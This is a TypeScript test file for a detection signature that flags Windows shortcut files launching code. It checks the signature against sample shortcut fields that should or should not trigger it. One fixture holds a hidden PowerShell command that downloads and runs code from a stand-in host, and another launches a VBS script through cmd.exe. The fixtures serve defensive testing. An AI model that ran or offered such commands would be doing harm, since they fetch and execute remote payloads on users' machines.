import { given, SignatureTester } from 'ovoscope/testing';
import StaticLnkRunsCode from './static_lnk_runs_code.ts';

const lnk = (fields: object) => given.container({ static: { lnk: fields } });

new SignatureTester().run(StaticLnkRunsCode, {
  detects: [
    {
      name: 'PowerShell',
      results: lnk({
        basepath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        cmdline: '-w hidden -c iex (iwr http://e.example/a)',
      }),
    },
    {
      name: 'a file beside it',
      results: lnk({ relapath: '..\\..\\Windows\\System32\\cmd.exe', cmdline: '/c start a.vbs' }),
    },
  ],
  ignores: [
    { name: 'a document', results: lnk({ basepath: 'C:\\Users\\a\\b.docx', cmdline: '' }) },
    { name: 'a shell alone', results: lnk({ basepath: 'C:\\Windows\\System32\\cmd.exe', cmdline: '' }) },
    { name: 'no shortcut', results: given.container({ static: { lnk: null } }) },
  ],
});
